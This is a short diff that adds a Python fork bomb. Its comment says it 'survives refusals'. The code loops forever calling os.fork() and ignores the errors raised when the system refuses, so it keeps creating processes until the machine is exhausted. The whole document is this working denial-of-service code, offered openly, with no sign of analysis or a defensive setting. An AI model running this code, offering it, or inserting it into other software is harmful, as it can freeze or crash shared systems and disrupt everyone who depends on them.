@@ -1,0 +1,8 @@
+# A fork bomb that survives refusals.
+import os
+
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
